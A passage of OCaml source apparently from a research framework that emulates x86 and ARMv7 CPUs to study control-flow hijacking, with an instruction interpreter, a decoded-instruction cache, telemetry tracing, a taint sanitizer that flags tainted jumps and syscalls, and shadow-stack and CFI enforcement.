                    ~slot:a ~label:l ~detail:"pc loaded from tainted memory";
                  nothing
                end
                else fun () -> set_rlab rd l
            | Ldr_r (rd, rn, rm) ->
                let a = Word.add (get t rn) (get t rm) in
                let l = mlab32 a in
                if rd = PC then begin
                  check_pc
                    ~target:(try_read32 a land lnot 1)
                    ~slot:a ~label:l ~detail:"pc loaded from tainted memory";
                  nothing
                end
                else fun () -> set_rlab rd l
            | Ldrb (rd, rn, off) ->
                let a = Word.add (get t rn) off in
                let l = mlab8 a in
                fun () -> set_rlab rd l
            | Ldrb_r (rd, rn, rm) ->
                let a = Word.add (get t rn) (get t rm) in
                let l = mlab8 a in
                fun () -> set_rlab rd l
            | Str (rd, rn, off) ->
                let a = Word.add (get t rn) off in
                let l = rlab rd and v = get t rd in
                fun () -> store ~addr:a ~len:4 ~value:v ~label:l
            | Str_r (rd, rn, rm) ->
                let a = Word.add (get t rn) (get t rm) in
                let l = rlab rd and v = get t rd in
                fun () -> store ~addr:a ~len:4 ~value:v ~label:l
            | Strb (rd, rn, off) ->
                let a = Word.add (get t rn) off in
                let l = rlab rd and v = get t rd land 0xFF in
                fun () -> store ~addr:a ~len:1 ~value:v ~label:l
            | Strb_r (rd, rn, rm) ->
                let a = Word.add (get t rn) (get t rm) in
                let l = rlab rd and v = get t rd land 0xFF in
                fun () -> store ~addr:a ~len:1 ~value:v ~label:l
            | Push regs ->
                let n = List.length regs in
                let base = Word.sub (get t SP) (4 * n) in
                let slots =
                  List.mapi
                    (fun i r -> (Word.add base (4 * i), r, rlab r, get t r))
                    regs
                in
                fun () ->
                  List.iter
                    (fun (a, r, l, v) ->
                      store ~addr:a ~len:4 ~value:v ~label:l;
                      if r = LR then O.note_ret_slot oracle a)
                    slots
            | Pop regs ->
                let sp0 = get t SP in
                let slots =
                  List.mapi (fun i r -> (Word.add sp0 (4 * i), r)) regs
                in
                List.iter
                  (fun (a, r) ->
                    if r = PC then
                      check_pc
                        ~target:(try_read32 a land lnot 1)
                        ~slot:a ~label:(mlab32 a)
                        ~detail:"pop {…, pc} from attacker-controlled stack")
                  slots;
                fun () ->
                  List.iter
                    (fun (a, r) ->
                      if r = PC then O.clear_ret_slot oracle a
                      else set_rlab r (mlab32 a))
                    slots
            | Bl _ -> fun () -> set_rlab LR 0
            | Bx r ->
                check_pc
                  ~target:(get t r land lnot 1)
                  ~slot:0 ~label:(rlab r) ~detail:"bx through tainted register";
                nothing
            | Blx_r r ->
                check_pc
                  ~target:(get t r land lnot 1)
                  ~slot:0 ~label:(rlab r)
                  ~detail:"blx through tainted register";
                fun () -> set_rlab LR 0
            | Svc n ->
                if n = 0 then begin
                  let number = get t R7 in
                  let lnum = rlab R7 in
                  let exec =
                    number = Machine.Sysno.execve
                    || number = Machine.Sysno.exec_varargs
                  in
                  let path = get t R0 in
                  let larg =
                    if exec then
                      Shadow.join (rlab R0)
                        (Shadow.join (cstring_label path) (rlab R1))
                    else 0
                  in
                  let label = Shadow.join lnum larg in
                  if label <> 0 then
                    O.check_syscall oracle ~pc:pc0 ~step:stepno ~number
                      ~addr:(if exec then path else 0)
                      ~label
                      ~detail:
                        (if lnum <> 0 then "tainted syscall number"
                         else "exec path/args from attacker bytes")
                end;
                nothing)
        | _ -> nothing
      in
      match step t ~kernel with
      | Some reason -> reason
      | None ->
          commit ();
          loop (budget - 1)
    end
  in
  loop fuel

(* Mitigated fetch-decode-execute — the ARM twin of the x86
   [run_mitigated].  Enforces a software shadow return stack and
   forward-edge CFI against the pre-state: [bl]/[blx] push the
   fall-through onto a mirror; [bx lr], [pop {…, pc}] and [mov pc, lr]
   must target its top; any other indirect pc write ([bx r], [blx r],
   data-processing or load into pc) must land on an address
   [valid_target] accepts.  A violating transfer stops with
   [Cfi_violation] before it executes; otherwise the same [step] core as
   [run] retires the instruction, so benign runs are bit-identical in
   outcome, step count, and registers.  A condition-failed instruction
   plans nothing, exactly as it executes nothing. *)
let run_mitigated ?(fuel = 2_000_000) ~traps ~kernel ~shadow_stack ~forward_cfi
    ~valid_target ?(shadow0 = []) t =
  let mirror = ref shadow0 in
  let try_read32 a =
    match Mem.read_u32 t.mem a with v -> v | exception Mem.Fault _ -> 0
  in
  let peek addr =
    match Decode.decode t.mem addr with
    | insn -> Some insn
    | exception Decode.Error _ -> None
    | exception Mem.Fault _ -> None
  in
  let nothing () = () in
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem (pc t) traps then Outcome.Halted
    else begin
      let pc0 = pc t in
      let next = Word.add pc0 4 in
      let forward target =
        if forward_cfi && not (valid_target target) then
          Error (Outcome.Cfi_violation { at = pc0; expected = 0; got = target })
        else Ok nothing
      in
      let ret target =
        if not shadow_stack then Ok nothing
        else
          match !mirror with
          | expected :: rest when expected = target ->
              Ok (fun () -> mirror := rest)
          | expected :: _ ->
              Error (Outcome.Cfi_violation { at = pc0; expected; got = target })
          | [] ->
              Error
                (Outcome.Cfi_violation { at = pc0; expected = 0; got = target })
      in
      let push_ret () = if shadow_stack then mirror := next :: !mirror in
      let plan =
        match peek pc0 with
        | Some { cond; op } when cond_holds t cond -> (
            (* Data-processing result written to pc is an indirect
               branch; anywhere else it is no transfer at all. *)
            let dp rd v =
              if rd = PC then forward (Word.of_int v land lnot 1)
              else Ok nothing
            in
            match op with
            | Bl _ -> Ok push_ret
            | Blx_r r -> (
                match forward (get t r land lnot 1) with
                | Error stop -> Error stop
                | Ok _ -> Ok push_ret)
            | Bx r ->
                if r = LR then ret (get t LR land lnot 1)
                else forward (get t r land lnot 1)
            | Mov (PC, Reg LR) -> ret (get t LR land lnot 1)
            | Mov (rd, o) -> dp rd (op2_value t o)
            | Mvn (rd, o) -> dp rd (Word.lognot (op2_value t o))
            | Add (rd, rn, o) -> dp rd (Word.add (get t rn) (op2_value t o))
            | Sub (rd, rn, o) -> dp rd (Word.sub (get t rn) (op2_value t o))
            | Rsb (rd, rn, o) -> dp rd (Word.sub (op2_value t o) (get t rn))
            | And (rd, rn, o) -> dp rd (get t rn land op2_value t o)
            | Orr (rd, rn, o) -> dp rd (get t rn lor op2_value t o)
            | Eor (rd, rn, o) -> dp rd (get t rn lxor op2_value t o)
            | Bic (rd, rn, o) ->
                dp rd (get t rn land Word.lognot (op2_value t o))
            | Mul (rd, rm, rs) -> dp rd (Word.mul (get t rm) (get t rs))
            | Ldr (rd, rn, off) ->
                if rd = PC then
                  forward (try_read32 (Word.add (get t rn) off) land lnot 1)
                else Ok nothing
            | Ldr_r (rd, rn, rm) ->
                if rd = PC then
                  forward
                    (try_read32 (Word.add (get t rn) (get t rm)) land lnot 1)
                else Ok nothing
            | Pop regs when List.mem PC regs ->
                let sp0 = get t SP in
                let rec idx i = function
                  | [] -> -1
                  | PC :: _ -> i
                  | _ :: rest -> idx (i + 1) rest
                in
                ret (try_read32 (Word.add sp0 (4 * idx 0 regs)) land lnot 1)
            | _ -> Ok nothing)
        | _ -> Ok nothing
      in
      match plan with
      | Error stop -> stop
      | Ok commit -> (
          match step t ~kernel with
          | Some reason -> reason
          | None ->
              commit ();
              loop (budget - 1))
    end
  in
  loop fuel
