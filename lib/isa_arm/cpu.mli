(** ARMv7 (A32) interpreter over {!Memsim.Memory}.

    Models the ARM-specific properties the paper's §III-B2/§III-C2 exploits
    depend on: arguments in r0–r3 (so classic ret2libc cannot set them from
    the stack), function return via [pop {…, pc}] or [bx lr], [blx rN]
    link semantics (lr = next instruction), and pc reading as
    "current + 8".

    As on x86, an optional shadow stack implements return-edge CFI: [bl]
    and [blx] push the link value; [pop {…, pc}], [bx lr] and [mov pc, lr]
    are validated against it. *)

type t = {
  mem : Memsim.Memory.t;
  regs : int array;  (** r0–r15; index 15 is the current instruction address *)
  mutable n : bool;
  mutable z : bool;
  mutable c : bool;
  mutable v : bool;
  mutable shadow : int list;
  mutable cfi : bool;
  mutable steps : int;
  mutable branched : bool;
      (** interpreter-internal: the executing instruction transferred
          control, so the fall-through pc update is skipped *)
  icache : compiled Memsim.Icache.t option;
      (** decoded-instruction cache ([None] = decode every step) *)
}

and kernel = int -> t -> Machine.Outcome.syscall_result
(** [svc n] handler; by ARM EABI convention r7 carries the syscall number
    and r0–r2 the arguments. *)

and compiled = private {
  insn : Insn.t;
  run : t -> kernel -> Machine.Outcome.stop_reason option;
}
(** Icache payload: the decoded instruction plus an execution thunk
    specialized for the instruction's address (pc+8 reads, successor pc
    and branch targets pre-resolved).  Behaviorally identical to
    interpreting [insn] — the cache only ever changes speed, never
    outcomes. *)

val create : ?cfi:bool -> ?icache:bool -> Memsim.Memory.t -> t
(** [icache] (default [true]) enables the write-invalidated
    decoded-instruction cache; execution is bit-identical either way
    (self-modifying pages re-decode via {!Memsim.Memory.page_gen}). *)

val get : t -> Insn.reg -> int
(** Reading [PC] yields the architectural value (current instruction + 8). *)

val set : t -> Insn.reg -> int -> unit
(** Writing [PC] branches (no CFI check — use within the interpreter only). *)

val pc : t -> int
(** Address of the instruction about to execute. *)

val set_pc : t -> int -> unit

val push : t -> int -> unit
val pop : t -> int

val step : t -> kernel:kernel -> Machine.Outcome.stop_reason option

val run :
  ?fuel:int -> traps:int list -> kernel:kernel -> t -> Machine.Outcome.stop_reason

val run_traced :
  ?fuel:int ->
  traps:int list ->
  kernel:kernel ->
  ?trace:Telemetry.Trace.t ->
  ?profile:Telemetry.Profile.t ->
  t ->
  Machine.Outcome.stop_reason
(** Like {!run}, with telemetry on the side: ["cpu"]-category events
    (call entry, basic-block entries, [svc] syscalls, traps, the stop
    reason) into [trace], every retired pc into [profile].  Same
    {!step} core as {!run}, so outcomes and step counts are identical
    traced or not; the untraced loops carry no tracing branch. *)

val run_sanitized :
  ?fuel:int ->
  traps:int list ->
  kernel:kernel ->
  oracle:Sanitizer.Oracle.t ->
  t ->
  Machine.Outcome.stop_reason
(** Like {!run}, under the taint sanitizer — the ARM twin of the x86
    [run_sanitized]: loads/stores/data-processing ops propagate labels
    through [oracle], and the detections (redzone write, return-slot
    overwrite, tainted pc via [pop {…, pc}]/[bx]/[blx]/pc-writing DP
    ops, tainted [svc]) fire as instructions are about to retire.  Same
    {!step} core as {!run}; the oracle never touches guest state, so
    outcomes, step counts, and registers are bit-identical sanitized or
    not. *)

val run_mitigated :
  ?fuel:int ->
  traps:int list ->
  kernel:kernel ->
  shadow_stack:bool ->
  forward_cfi:bool ->
  valid_target:(int -> bool) ->
  ?shadow0:int list ->
  t ->
  Machine.Outcome.stop_reason
(** Like {!run}, under the enforced embedded mitigations — the ARM twin
    of the x86 [run_mitigated].  Shadow return stack: [bl]/[blx] push
    the fall-through onto a mirror; [bx lr], [pop {…, pc}] and
    [mov pc, lr] must target its top.  Forward-edge CFI: any other
    indirect pc write ([bx r]/[blx r], data-processing or load into pc)
    must land on an address [valid_target] accepts (the loader passes
    the symbol table — coarse-grained label CFI).  A violating transfer
    stops the run with [Cfi_violation] {e before} it executes; benign
    runs are bit-identical to {!run} in outcome, step count, and
    registers.  [shadow0] seeds the mirror with the caller's synthetic
    return address(es). *)
