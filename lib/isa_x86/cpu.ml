open Insn
module Mem = Memsim.Memory
module Word = Memsim.Word
module Outcome = Machine.Outcome

(* [compiled] is the icache payload: the decoded instruction plus an
   execution thunk specialized at fill time for the instruction's (fixed)
   address — successor eip and branch targets are captured constants,
   register operands are pre-resolved array indices.  See [compile]. *)
type t = {
  mem : Mem.t;
  regs : int array;
  mutable eip : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable cf : bool;
  mutable o_f : bool;
  mutable shadow : int list;
  mutable cfi : bool;
  mutable steps : int;
  icache : compiled Memsim.Icache.t option;
}

and kernel = int -> t -> Outcome.syscall_result

and compiled = {
  insn : Insn.t;
  run : t -> kernel -> Outcome.stop_reason option;
}

let create ?(cfi = false) ?(icache = true) mem =
  {
    mem;
    regs = Array.make 8 0;
    eip = 0;
    zf = false;
    sf = false;
    cf = false;
    o_f = false;
    shadow = [];
    cfi;
    steps = 0;
    icache =
      (if icache then
         Some
           (Memsim.Icache.create
              ~dummy:{ insn = Insn.Nop; run = (fun _ _ -> None) }
              mem)
       else None);
  }

(* [reg_index] is total over the eight registers, so the bounds checks
   would never fire — and [get]/[set] run several times per interpreted
   instruction. *)
let get t r = Array.unsafe_get t.regs (reg_index r)
let set t r v = Array.unsafe_set t.regs (reg_index r) (Word.of_int v)

let push t v =
  let esp = Word.sub (get t ESP) 4 in
  set t ESP esp;
  Mem.write_u32 t.mem esp v

let pop t =
  let esp = get t ESP in
  let v = Mem.read_u32 t.mem esp in
  set t ESP (Word.add esp 4);
  v

let ea t { base; disp } =
  match base with
  | None -> Word.of_int disp
  | Some r -> Word.add (get t r) disp

let read_op t = function Reg r -> get t r | Mem m -> Mem.read_u32 t.mem (ea t m)

let write_op t op v =
  match op with Reg r -> set t r v | Mem m -> Mem.write_u32 t.mem (ea t m) v

let read_op8 t = function
  | Reg r -> get t r land 0xFF
  | Mem m -> Mem.read_u8 t.mem (ea t m)

let write_op8 t op v =
  match op with
  | Reg r -> set t r (get t r land 0xFFFF_FF00 lor (v land 0xFF))
  | Mem m -> Mem.write_u8 t.mem (ea t m) (v land 0xFF)

(* Flag helpers.  Only ZF/SF/CF/OF are modelled; that is all the subset's
   conditional branches consult. *)

let set_logic_flags t res =
  t.zf <- res = 0;
  t.sf <- Word.bit res 31;
  t.cf <- false;
  t.o_f <- false

let set_add_flags t a b res =
  t.zf <- res = 0;
  t.sf <- Word.bit res 31;
  t.cf <- a + b > Word.mask;
  t.o_f <- Word.bit a 31 = Word.bit b 31 && Word.bit res 31 <> Word.bit a 31

let set_sub_flags t a b res =
  t.zf <- res = 0;
  t.sf <- Word.bit res 31;
  t.cf <- a < b;
  t.o_f <- Word.bit a 31 <> Word.bit b 31 && Word.bit res 31 <> Word.bit a 31

let cond_holds t = function
  | E -> t.zf
  | NE -> not t.zf
  | B -> t.cf
  | AE -> not t.cf
  | BE -> t.cf || t.zf
  | A -> (not t.cf) && not t.zf
  | L -> t.sf <> t.o_f
  | GE -> t.sf = t.o_f
  | LE -> t.zf || t.sf <> t.o_f
  | G -> (not t.zf) && t.sf = t.o_f
  | S -> t.sf
  | NS -> not t.sf

(* Return-edge CFI: every call pushes the return address onto the shadow
   stack; every ret must transfer to the address on top.  This is the
   hardware-shadow-stack model of CFI CaRE (Nyman et al. 2017). *)
let check_return t target =
  if not t.cfi then None
  else
    match t.shadow with
    | expected :: rest when expected = target ->
        t.shadow <- rest;
        None
    | expected :: _ ->
        Some (Outcome.Cfi_violation { at = t.eip; expected; got = target })
    | [] -> Some (Outcome.Cfi_violation { at = t.eip; expected = 0; got = target })

let do_call t target ret_addr =
  push t ret_addr;
  if t.cfi then t.shadow <- ret_addr :: t.shadow;
  t.eip <- target

(* Top-level (not a per-step closure): the ALU read-modify-write shape
   shared by ADD/SUB/AND/OR/XOR. *)
let binop t setf op d s =
  let a = read_op t d and b = read_op t s in
  let res = op a b in
  write_op t d res;
  setf t a b res;
  None

let exec t ~kernel next insn =
      t.eip <- next;
      t.steps <- t.steps + 1;
      (
      try
        match insn with
        | Nop -> None
        | Push_r r ->
            push t (get t r);
            None
        | Push_i i ->
            push t (Word.of_int i);
            None
        | Push_i8 i ->
            push t (Word.sign8 (i land 0xFF));
            None
        | Push_m m ->
            push t (Mem.read_u32 t.mem (ea t m));
            None
        | Pop_r r ->
            set t r (pop t);
            None
        | Mov_ri (r, i) ->
            set t r i;
            None
        | Mov (d, s) ->
            write_op t d (read_op t s);
            None
        | Mov_mi (d, i) ->
            write_op t d (Word.of_int i);
            None
        | Mov_b (d, s) ->
            write_op8 t d (read_op8 t s);
            None
        | Movzx_b (r, s) ->
            set t r (read_op8 t s);
            None
        | Lea (r, m) ->
            set t r (ea t m);
            None
        | Add (d, s) -> binop t set_add_flags Word.add d s
        | Add_i (d, i) ->
            let a = read_op t d and b = Word.of_int i in
            let res = Word.add a b in
            write_op t d res;
            set_add_flags t a b res;
            None
        | Sub (d, s) -> binop t set_sub_flags Word.sub d s
        | Sub_i (d, i) ->
            let a = read_op t d and b = Word.of_int i in
            let res = Word.sub a b in
            write_op t d res;
            set_sub_flags t a b res;
            None
        | And (d, s) -> binop t (fun t _ _ r -> set_logic_flags t r) ( land ) d s
        | Or (d, s) -> binop t (fun t _ _ r -> set_logic_flags t r) ( lor ) d s
        | Xor (d, s) -> binop t (fun t _ _ r -> set_logic_flags t r) ( lxor ) d s
        | Cmp (d, s) ->
            let a = read_op t d and b = read_op t s in
            set_sub_flags t a b (Word.sub a b);
            None
        | Cmp_i (d, i) ->
            let a = read_op t d and b = Word.of_int i in
            set_sub_flags t a b (Word.sub a b);
            None
        | Test_rr (a, b) ->
            set_logic_flags t (get t a land get t b);
            None
        (* INC/DEC preserve CF but do update OF (overflow at the signed
           extreme), unlike ADD/SUB which set both.  A stale OF here flips
           every signed Jcc (L/GE/LE/G) that follows an inc/dec. *)
        | Inc_r r ->
            let a = get t r in
            let res = Word.add a 1 in
            set t r res;
            t.zf <- res = 0;
            t.sf <- Word.bit res 31;
            t.o_f <- a = 0x7FFF_FFFF;
            None
        | Dec_r r ->
            let a = get t r in
            let res = Word.sub a 1 in
            set t r res;
            t.zf <- res = 0;
            t.sf <- Word.bit res 31;
            t.o_f <- a = 0x8000_0000;
            None
        (* Deliberate simplification: real SHL/SHR leave CF holding the
           last bit shifted out (and OF defined only for 1-bit shifts);
           this subset clears CF/OF via [set_logic_flags].  Nothing in the
           modelled programs branches on CF after a shift — the unsigned
           Jcc forms (B/AE/BE/A) only follow CMP/ADD/SUB here — so the
           shortcut is observationally safe for the reproduced binaries. *)
        | Shl_i (r, i) ->
            let res = Word.of_int (get t r lsl (i land 31)) in
            set t r res;
            set_logic_flags t res;
            None
        | Shr_i (r, i) ->
            let res = get t r lsr (i land 31) in
            set t r res;
            set_logic_flags t res;
            None
        | Neg o ->
            let v = Word.neg (read_op t o) in
            write_op t o v;
            t.zf <- v = 0;
            t.sf <- Word.bit v 31;
            t.cf <- v <> 0;
            None
        | Not o ->
            write_op t o (Word.lognot (read_op t o));
            None
        | Imul (r, o) ->
            let v = Word.mul (get t r) (read_op t o) in
            set t r v;
            None
        | Call_rel d ->
            do_call t (Word.add next d) next;
            None
        | Call_rm o ->
            do_call t (read_op t o) next;
            None
        | Jmp_rel d | Jmp_short d ->
            t.eip <- Word.add next d;
            None
        | Jmp_rm o ->
            t.eip <- read_op t o;
            None
        | Jcc (c, d) | Jcc_short (c, d) ->
            if cond_holds t c then t.eip <- Word.add next d;
            None
        | Ret -> (
            let target = pop t in
            match check_return t target with
            | Some stop -> Some stop
            | None ->
                t.eip <- target;
                None)
        | Ret_i n -> (
            let target = pop t in
            match check_return t target with
            | Some stop -> Some stop
            | None ->
                set t ESP (Word.add (get t ESP) n);
                t.eip <- target;
                None)
        | Leave -> (
            set t ESP (get t EBP);
            set t EBP (pop t);
            None)
        | Int n -> (
            match kernel n t with
            | Outcome.Resume -> None
            | Outcome.Stop reason -> Some reason)
        | Hlt -> Some Outcome.Halted
      with Mem.Fault f -> Some (Outcome.Fault f))

(* Specialize one decoded instruction into an execution thunk for its
   (fixed) address: the successor eip and relative branch targets become
   captured constants, register operands become pre-resolved array
   indices, and register-only forms skip the fault handler (they cannot
   fault).  Anything outside the hot set falls back to the generic
   [exec] — behavior is bit-identical either way, which the differential
   tests assert instruction-by-instruction over every exploit scenario.
   Compilation cost is paid once per (page generation, address), i.e. on
   the same events as decoding itself. *)
let compile start size insn =
  let next = Word.add start size in
  let pre t =
    t.eip <- next;
    t.steps <- t.steps + 1
  in
  (* ALU read-modify-write over two registers / register + immediate. *)
  let alu2 setf f d s =
    let d = reg_index d and s = reg_index s in
    fun t _ ->
      pre t;
      let a = Array.unsafe_get t.regs d and b = Array.unsafe_get t.regs s in
      let res = Word.of_int (f a b) in
      Array.unsafe_set t.regs d res;
      setf t a b res;
      None
  in
  let alu2i setf f d i =
    let d = reg_index d and b = Word.of_int i in
    fun t _ ->
      pre t;
      let a = Array.unsafe_get t.regs d in
      let res = Word.of_int (f a b) in
      Array.unsafe_set t.regs d res;
      setf t a b res;
      None
  in
  let logic t _ _ r = set_logic_flags t r in
  match insn with
  | Nop ->
      fun t _ ->
        pre t;
        None
  | Mov_ri (r, i) ->
      let d = reg_index r and v = Word.of_int i in
      fun t _ ->
        pre t;
        Array.unsafe_set t.regs d v;
        None
  | Mov (Reg d, Reg s) ->
      let d = reg_index d and s = reg_index s in
      fun t _ ->
        pre t;
        Array.unsafe_set t.regs d (Array.unsafe_get t.regs s);
        None
  | Lea (r, { base = Some b; disp }) ->
      let d = reg_index r and b = reg_index b in
      fun t _ ->
        pre t;
        Array.unsafe_set t.regs d (Word.add (Array.unsafe_get t.regs b) disp);
        None
  | Lea (r, { base = None; disp }) ->
      let d = reg_index r and v = Word.of_int disp in
      fun t _ ->
        pre t;
        Array.unsafe_set t.regs d v;
        None
  | Add (Reg d, Reg s) -> alu2 set_add_flags Word.add d s
  | Add_i (Reg d, i) -> alu2i set_add_flags Word.add d i
  | Sub (Reg d, Reg s) -> alu2 set_sub_flags Word.sub d s
  | Sub_i (Reg d, i) -> alu2i set_sub_flags Word.sub d i
  | And (Reg d, Reg s) -> alu2 logic ( land ) d s
  | Or (Reg d, Reg s) -> alu2 logic ( lor ) d s
  | Xor (Reg d, Reg s) -> alu2 logic ( lxor ) d s
  | Cmp (Reg d, Reg s) ->
      let d = reg_index d and s = reg_index s in
      fun t _ ->
        pre t;
        let a = Array.unsafe_get t.regs d and b = Array.unsafe_get t.regs s in
        set_sub_flags t a b (Word.sub a b);
        None
  | Cmp_i (Reg d, i) ->
      let d = reg_index d and b = Word.of_int i in
      fun t _ ->
        pre t;
        let a = Array.unsafe_get t.regs d in
        set_sub_flags t a b (Word.sub a b);
        None
  | Test_rr (a, b) ->
      let a = reg_index a and b = reg_index b in
      fun t _ ->
        pre t;
        set_logic_flags t (Array.unsafe_get t.regs a land Array.unsafe_get t.regs b);
        None
  | Inc_r r ->
      let d = reg_index r in
      fun t _ ->
        pre t;
        let a = Array.unsafe_get t.regs d in
        let res = Word.add a 1 in
        Array.unsafe_set t.regs d res;
        t.zf <- res = 0;
        t.sf <- Word.bit res 31;
        t.o_f <- a = 0x7FFF_FFFF;
        None
  | Dec_r r ->
      let d = reg_index r in
      fun t _ ->
        pre t;
        let a = Array.unsafe_get t.regs d in
        let res = Word.sub a 1 in
        Array.unsafe_set t.regs d res;
        t.zf <- res = 0;
        t.sf <- Word.bit res 31;
        t.o_f <- a = 0x8000_0000;
        None
  | Shl_i (r, i) ->
      let d = reg_index r and amt = i land 31 in
      fun t _ ->
        pre t;
        let res = Word.of_int (Array.unsafe_get t.regs d lsl amt) in
        Array.unsafe_set t.regs d res;
        set_logic_flags t res;
        None
  | Shr_i (r, i) ->
      let d = reg_index r and amt = i land 31 in
      fun t _ ->
        pre t;
        let res = Array.unsafe_get t.regs d lsr amt in
        Array.unsafe_set t.regs d res;
        set_logic_flags t res;
        None
  | Not (Reg r) ->
      let d = reg_index r in
      fun t _ ->
        pre t;
        Array.unsafe_set t.regs d (Word.lognot (Array.unsafe_get t.regs d));
        None
  | Neg (Reg r) ->
      let d = reg_index r in
      fun t _ ->
        pre t;
        let v = Word.neg (Array.unsafe_get t.regs d) in
        Array.unsafe_set t.regs d v;
        t.zf <- v = 0;
        t.sf <- Word.bit v 31;
        t.cf <- v <> 0;
        None
  | Imul (r, Reg s) ->
      let d = reg_index r and s = reg_index s in
      fun t _ ->
        pre t;
        Array.unsafe_set t.regs d
          (Word.mul (Array.unsafe_get t.regs d) (Array.unsafe_get t.regs s));
        None
  | Jmp_rel d | Jmp_short d ->
      let target = Word.add next d in
      fun t _ ->
        t.steps <- t.steps + 1;
        t.eip <- target;
        None
  | Jcc (c, d) | Jcc_short (c, d) ->
      let target = Word.add next d in
      fun t _ ->
        pre t;
        if cond_holds t c then t.eip <- target;
        None
  | Int n ->
      fun t kernel -> (
        pre t;
        try
          match kernel n t with
          | Outcome.Resume -> None
          | Outcome.Stop reason -> Some reason
        with Mem.Fault f -> Some (Outcome.Fault f))
  | Hlt ->
      fun t _ ->
        pre t;
        Some Outcome.Halted
  | insn -> fun t kernel -> exec t ~kernel next insn

(* What [lookup]'s miss path fills entries with: decode, then compile for
   the decode address.  Top-level so the hit path allocates nothing. *)
let compile_decode mem addr =
  let insn, size = Decode.decode mem addr in
  ({ insn; run = compile addr size insn }, size)

(* Fetch-decode-execute, through the decoded-instruction cache when
   enabled; on a hit the NX check is carried by the cache's generation
   protocol (any byte store or [set_perm] on the page forces a
   re-decode). *)
let step t ~kernel =
  let start = t.eip in
  match t.icache with
  | Some c -> (
      match Memsim.Icache.lookup c start ~decode:compile_decode with
      | exception Decode.Error { addr; byte } ->
          Some (Outcome.Decode_error { addr; byte })
      | exception Mem.Fault f -> Some (Outcome.Fault f)
      | e -> (e.Memsim.Icache.v).run t kernel)
  | None -> (
      match Decode.decode t.mem start with
      | exception Decode.Error { addr; byte } ->
          Some (Outcome.Decode_error { addr; byte })
      | exception Mem.Fault f -> Some (Outcome.Fault f)
      | insn, size -> exec t ~kernel (Word.add start size) insn)

(* The per-step trap check must not scan a list: the common zero/one-trap
   cases get dedicated loops with a direct compare, anything larger a
   precomputed int hash set — never a per-step [List.mem]. *)
let run ?(fuel = 2_000_000) ~traps ~kernel t =
  match traps with
  | [] ->
      let rec loop budget =
        if budget <= 0 then Outcome.Fuel_exhausted
        else
          match step t ~kernel with
          | Some reason -> reason
          | None -> loop (budget - 1)
      in
      loop fuel
  | [ a ] ->
      let rec loop budget =
        if budget <= 0 then Outcome.Fuel_exhausted
        else if t.eip = a then Outcome.Halted
        else
          match step t ~kernel with
          | Some reason -> reason
          | None -> loop (budget - 1)
      in
      loop fuel
  | l ->
      let set = Hashtbl.create (2 * List.length l) in
      List.iter (fun a -> Hashtbl.replace set a ()) l;
      let rec loop budget =
        if budget <= 0 then Outcome.Fuel_exhausted
        else if Hashtbl.mem set t.eip then Outcome.Halted
        else
          match step t ~kernel with
          | Some reason -> reason
          | None -> loop (budget - 1)
      in
      loop fuel

(* Traced fetch-decode-execute.  A separate entry point rather than a
   flag threaded through [run]: the untraced loops above (and the
   compiled thunks) stay untouched, which is the overhead contract —
   tracing disabled costs zero on the hot path.  Event timestamps are
   the retired-instruction counter offset from the trace clock at entry,
   rendering one instruction as one µs; basic-block entries are detected
   by comparing the post-step eip against the peeked instruction's
   fall-through address.  Stepping itself goes through the same [step]
   as [run], so outcomes and step counts are bit-identical traced or
   not (the differential tests assert this across the exploit matrix). *)
let run_traced ?(fuel = 2_000_000) ~traps ~kernel ?trace ?profile t =
  let module Tr = Telemetry.Trace in
  let base_ts = match trace with Some tr -> Tr.now tr | None -> 0 in
  let emit name args =
    match trace with
    | None -> ()
    | Some tr ->
        Tr.emit tr ~ts:(base_ts + t.steps) ~cat:"cpu" ~track:"cpu-x86" name
          ~args
  in
  emit "call" [ ("entry", Tr.I t.eip) ];
  (* Peek decodes directly (not through the icache) so traced runs report
     the same icache hit/miss counts per executed instruction as untraced
     ones. *)
  let peek pc =
    match Decode.decode t.mem pc with
    | insn, size -> Some (insn, size)
    | exception Decode.Error _ -> None
    | exception Mem.Fault _ -> None
  in
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem t.eip traps then begin
      emit "trap" [ ("pc", Tr.I t.eip) ];
      Outcome.Halted
    end
    else begin
      let pc0 = t.eip in
      (match profile with
      | None -> ()
      | Some p -> Telemetry.Profile.record p pc0);
      let peeked = match trace with None -> None | Some _ -> peek pc0 in
      (match peeked with
      | Some (Int n, _) ->
          emit "syscall" [ ("vector", Tr.I n); ("eax", Tr.I (get t EAX)) ]
      | _ -> ());
      match step t ~kernel with
      | Some reason ->
          emit "stop"
            [ ("reason", Tr.S (Outcome.to_string reason)); ("pc", Tr.I t.eip) ];
          reason
      | None ->
          (match peeked with
          | Some (_, size) when t.eip <> Word.add pc0 size ->
              emit "bb" [ ("pc", Tr.I t.eip); ("from", Tr.I pc0) ]
          | _ -> ());
          loop (budget - 1)
    end
  in
  let reason = loop fuel in
  (match trace with
  | Some tr -> Tr.set_now tr (base_ts + t.steps)
  | None -> ());
  reason

(* Sanitized fetch-decode-execute.  Like [run_traced], a separate entry
   point so the untraced hot loops stay untouched.  Each iteration peeks
   the next instruction, runs the oracle's pre-step rules (tainted-pc on
   indirect control transfers, tainted-syscall on [int]) against the
   *pre*-state, steps through the same [step] as [run] — so outcomes,
   step counts, and registers are bit-identical to a plain run — and then,
   only if the instruction retired, commits its taint effects (shadow
   bytes for stores, register labels for loads/ALU ops, return-slot
   bookkeeping for call/ret).  The oracle never touches guest state, and
   every guest read the planner itself performs is guarded against
   faults, so planning cannot perturb execution. *)
let run_sanitized ?(fuel = 2_000_000) ~traps ~kernel ~oracle t =
  let module O = Sanitizer.Oracle in
  let module Shadow = Memsim.Shadow in
  let rlab r = O.reg_label oracle (reg_index r) in
  let set_rlab r l = O.set_reg_label oracle (reg_index r) l in
  let mlab8 a = O.mem_label oracle a in
  let mlab32 a = O.mem_label32 oracle a in
  let lab_op = function Reg r -> rlab r | Mem m -> mlab32 (ea t m) in
  let lab_op8 = function Reg r -> rlab r | Mem m -> mlab8 (ea t m) in
  let try_read32 a =
    match Mem.read_u32 t.mem a with v -> v | exception Mem.Fault _ -> 0
  in
  let try_read_op o =
    match read_op t o with v -> v | exception Mem.Fault _ -> 0
  in
  let try_read_op8 o =
    match read_op8 t o with v -> v | exception Mem.Fault _ -> 0
  in
  (* First tainted label along the NUL-terminated string at [addr] —
     the byte provenance of an exec path argument. *)
  let cstring_label addr =
    let rec go i =
      if i >= 256 then 0
      else
        let a = Word.add addr i in
